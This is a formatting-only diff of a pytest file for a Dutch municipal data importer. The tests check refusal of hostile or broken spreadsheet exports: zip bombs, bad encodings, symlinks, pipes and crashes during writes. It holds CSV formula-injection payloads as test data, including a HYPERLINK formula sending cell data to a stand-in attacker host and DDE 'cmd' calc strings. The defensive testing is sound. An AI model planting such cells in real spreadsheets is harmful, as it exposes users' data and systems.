@@ -46,15 +46,26 @@ def refused(region: Region, path: Path, problems: list[str]) -> None:
 
 
 def test_formula_cells_are_plain_text_and_refused_where_a_value_is_expected(region: Region):
-    known = "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, Ubbergen, Wijchen"
-    refused(region, CASES / "formule-injectie.csv", [
-        f"formule-injectie.csv:2: gemeente: onbekende gemeente '=HYPERLINK(\"http://aanvaller.example/?d=\"&A1,\"Klik hier\")'; {known} [verwijzing-onbekend]",
-        "formule-injectie.csv:3: indicator: onbekende indicator '@SUM(1+1)*cmd|' /C calc'!A0'; gebruik een id uit content/indicatoren.yaml, zoals 'uitstroom-werk' [verwijzing-onbekend]",
-        "formule-injectie.csv:4: waarde: verwacht een getal zoals 42 of 71,4, gevonden '+cmd|' /C calc'!A0' [getal-ongeldig]",
-        "formule-injectie.csv:5: periode: verwacht een jaar zoals '2016', gevonden '=1+1' [periode-ongeldig]",
-        "formule-injectie.csv:6: waarde: verwacht een getal zoals 42 of 71,4, gevonden '-2+3' [getal-ongeldig]",
-        "formule-injectie.csv:7: waarde: verwacht een getal van hoogstens 15 cijfers, gevonden 40 tekens [waarde-buiten-bereik]",
-    ])
+    known = (
+        "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, "
+        "Ubbergen, Wijchen"
+    )
+    refused(
+        region,
+        CASES / "formule-injectie.csv",
+        [
+            "formule-injectie.csv:2: gemeente: onbekende gemeente "
+            f'\'=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")\'; {known} [verwijzing-onbekend]',
+            "formule-injectie.csv:3: indicator: onbekende indicator '@SUM(1+1)*cmd|' /C calc'!A0'; gebruik een id "
+            "uit content/indicatoren.yaml, zoals 'uitstroom-werk' [verwijzing-onbekend]",
+            "formule-injectie.csv:4: waarde: verwacht een getal zoals 42 of 71,4, gevonden '+cmd|' /C calc'!A0' "
+            "[getal-ongeldig]",
+            "formule-injectie.csv:5: periode: verwacht een jaar zoals '2016', gevonden '=1+1' [periode-ongeldig]",
+            "formule-injectie.csv:6: waarde: verwacht een getal zoals 42 of 71,4, gevonden '-2+3' [getal-ongeldig]",
+            "formule-injectie.csv:7: waarde: verwacht een getal van hoogstens 15 cijfers, gevonden 40 tekens "
+            "[waarde-buiten-bereik]",
+        ],
+    )
 
 
 def _xlsx_with_formula(path: Path, formula: str, cached: str | None) -> None:
@@ -93,16 +104,23 @@ def test_an_excel_formula_without_a_calculated_value_is_an_empty_cell(region: Re
 def test_open_data_csv_never_holds_a_cell_a_spreadsheet_would_execute():
     from generator.util.tabular import to_csv
 
-    rows = [{"toelichting": t, "realisatie": v} for t, v in [
-        ("=HYPERLINK(\"http://aanvaller.example\")", -5), ("+cmd|' /C calc'!A0", 1), ("@SUM(1+1)", 2),
-        ("-2+3", 3), ("\tverborgen", 4), ("gewone tekst", 5),
-    ]]
+    rows = [
+        {"toelichting": t, "realisatie": v}
+        for t, v in [
+            ('=HYPERLINK("http://aanvaller.example")', -5),
+            ("+cmd|' /C calc'!A0", 1),
+            ("@SUM(1+1)", 2),
+            ("-2+3", 3),
+            ("\tverborgen", 4),
+            ("gewone tekst", 5),
+        ]
+    ]
     from decimal import Decimal
 
     rows = [{**r, "realisatie": Decimal(r["realisatie"])} for r in rows]
     assert to_csv(rows).splitlines() == [
         "toelichting,realisatie",
-        "\"'=HYPERLINK(\"\"http://aanvaller.example\"\")\",-5",
+        '"\'=HYPERLINK(""http://aanvaller.example"")",-5',
         "'+cmd|' /C calc'!A0,1",
         "'@SUM(1+1),2",
         "'-2+3,3",
@@ -122,8 +140,15 @@ def test_dutch_excel_csv_in_windows_1252_is_read_and_the_encoding_named(region: 
 
 
 def test_latin_1_text_is_decoded_right_in_the_message(region: Region):
-    known = "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, Ubbergen, Wijchen"
-    refused(region, CASES / "latin-1.csv", [f"latin-1.csv:2: gemeente: onbekende gemeente 'Drüten'; {known}; bedoelt u 'Druten'? [verwijzing-onbekend]"])
+    known = (
+        "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, "
+        "Ubbergen, Wijchen"
+    )
+    refused(
+        region,
+        CASES / "latin-1.csv",
+        [f"latin-1.csv:2: gemeente: onbekende gemeente 'Drüten'; {known}; bedoelt u 'Druten'? [verwijzing-onbekend]"],
+    )
 
 
 def test_utf8_with_byte_order_mark_and_crlf_is_read(region: Region):
@@ -131,11 +156,26 @@ def test_utf8_with_byte_order_mark_and_crlf_is_read(region: Region):
     assert code == 0 and lines[0] == "utf8-bom.csv gelezen als UTF-8 (met BOM)."
 
 
-@pytest.mark.parametrize("name, problem", [
-    ("onleesbaar.csv", "onleesbaar.csv:2: de tekst is geen UTF-8 en geen Windows-1252 (byte 0x81); sla het bestand op als 'CSV UTF-8' [tekenset-ongeldig]"),
-    ("utf16.csv", "utf16.csv: het bestand is UTF-16 (Excel: 'Unicode-tekst'); sla het op als 'CSV UTF-8' of 'CSV (gescheiden door lijstscheidingsteken)' [tekenset-ongeldig]"),
-    ("hernoemd.xlsx", "hernoemd.xlsx: is geen Excel-bestand: een .xlsx-bestand is een zip-archief en dit bestand is dat niet (een hernoemd CSV- of tekstbestand?) [export-onleesbaar]"),
-])
+@pytest.mark.parametrize(
+    "name, problem",
+    [
+        (
+            "onleesbaar.csv",
+            "onleesbaar.csv:2: de tekst is geen UTF-8 en geen Windows-1252 (byte 0x81); sla het bestand op als "
+            "'CSV UTF-8' [tekenset-ongeldig]",
+        ),
+        (
+            "utf16.csv",
+            "utf16.csv: het bestand is UTF-16 (Excel: 'Unicode-tekst'); sla het op als 'CSV UTF-8' of 'CSV "
+            "(gescheiden door lijstscheidingsteken)' [tekenset-ongeldig]",
+        ),
+        (
+            "hernoemd.xlsx",
+            "hernoemd.xlsx: is geen Excel-bestand: een .xlsx-bestand is een zip-archief en dit bestand is dat "
+            "niet (een hernoemd CSV- of tekstbestand?) [export-onleesbaar]",
+        ),
+    ],
+)
 def test_unreadable_exports_are_refused_by_name(region: Region, name: str, problem: str):
     refused(region, CASES / name, [problem])
 
@@ -150,13 +190,20 @@ def test_a_zip_bomb_is_refused_before_it_is_inflated(region: Region):
             for _ in range(256):
                 fh.write(block)
     assert path.stat().st_size < 2 * 2**20
-    refused(region, path, [
-        "bom.xlsx: uitgepakt zou dit Excel-bestand 268.435.464 bytes in 2 delen zijn (hoogstens 209.715.200); "
-        "het wordt niet geopend (een zip-bom?) [bestand-te-groot]"
-    ])
+    refused(
+        region,
+        path,
+        [
+            "bom.xlsx: uitgepakt zou dit Excel-bestand 268.435.464 bytes in 2 delen zijn (hoogstens 209.715.200); "
+            "het wordt niet geopend (een zip-bom?) [bestand-te-groot]"
+        ],
+    )
 
 
-TOO_MANY = "meer dan 100.000 rijen met gegevens; dat is geen export van realisaties. Splits het bestand of controleer of u het goede bestand hebt gekozen"
+TOO_MANY = (
+    "meer dan 100.000 rijen met gegevens; dat is geen export van realisaties. Splits het bestand of controleer of u "
+    "het goede bestand hebt gekozen"
+)
 
 
 def test_a_million_row_csv_is_refused(region: Region):
@@ -184,9 +231,14 @@ def test_a_million_row_sheet_is_refused_without_reading_it(region: Region):
 
 def test_read_only_gemeente_file_is_refused_and_nothing_is_written(region: Region):
     region.path(W).chmod(0o444)
-    refused(region, CASES / "windows-1252.csv", [
-        "gemeenten/wijchen.yaml: het bestand is alleen-lezen; maak het schrijfbaar om realisaties in te lezen [bestand-alleen-lezen]",
-    ])
+    refused(
+        region,
+        CASES / "windows-1252.csv",
+        [
+            "gemeenten/wijchen.yaml: het bestand is alleen-lezen; maak het schrijfbaar om realisaties in te lezen "
+            "[bestand-alleen-lezen]",
+        ],
+    )
     assert region.path(W).stat().st_mode & 0o777 == 0o444
 
 
@@ -195,10 +247,14 @@ def test_export_linked_to_a_file_outside_the_repository_is_refused(region: Regio
     secret.write_text("gemeente,indicator,periode,waarde\ngeheime regel,x,2017,1\n", encoding="utf-8")
     link = region.path("export.csv")
     link.symlink_to(secret)
-    refused(region, link, [
-        f"export.csv: is een symbolische koppeling naar '{secret.resolve()}', buiten de regio-repository; "
-        "geef het bestand zelf op in plaats van een koppeling ernaar [bestand-buiten-repository]"
-    ])
+    refused(
+        region,
+        link,
+        [
+            f"export.csv: is een symbolische koppeling naar '{secret.resolve()}', buiten de regio-repository; "
+            "geef het bestand zelf op in plaats van een koppeling ernaar [bestand-buiten-repository]"
+        ],
+    )
 
 
 def test_named_pipe_as_export_is_refused_without_hanging(region: Region):
@@ -207,7 +263,10 @@ def test_named_pipe_as_export_is_refused_without_hanging(region: Region):
     before = _hashes(region)
     proc = subprocess.run(
         [sys.executable, "-m", "generator", "import", str(pipe), "--root", str(region.root)],
-        capture_output=True, text=True, timeout=120, cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=REPO,
     )
     assert proc.returncode == 1
     assert proc.stderr.splitlines() == [
@@ -221,7 +280,8 @@ KILLED_AT = {
     # after the first new file is written and synced to its temp file, before any rename
     "schrijven": "real = os.fsync\ndef hook(fd):\n    real(fd)\n    os.kill(os.getpid(), signal.SIGKILL)\nos.fsync = hook\n",
     # after the first gemeente file is replaced, before the second
-    "vervangen": "real = os.replace\ndef hook(src, dst):\n    real(src, dst)\n    os.kill(os.getpid(), signal.SIGKILL)\nos.replace = hook\n",
+    "vervangen": "real = os.replace\ndef hook(src, dst):\n    real(src, dst)\n    os.kill(os.getpid(), "
+    "signal.SIGKILL)\nos.replace = hook\n",
 }
 TWO_FILES = "gemeente,indicator,periode,waarde\nWijchen,uitstroom-werk,2017,121\nDruten,uitstroom-werk,2017,77\n"
 
@@ -243,7 +303,10 @@ def test_import_killed_during_the_write_leaves_every_file_whole(region: Region, 
     script = "import os, signal, sys\n" + KILLED_AT[moment] + "from generator.cli import main\nmain()\n"
     proc = subprocess.run(
         [sys.executable, "-c", script, "import", str(export), "--root", str(region.root)],
-        capture_output=True, text=True, timeout=120, cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=REPO,
     )
     assert proc.returncode == -9, proc.stderr
     now = {n: region.path(f"gemeenten/{n}").read_bytes() for n in names}
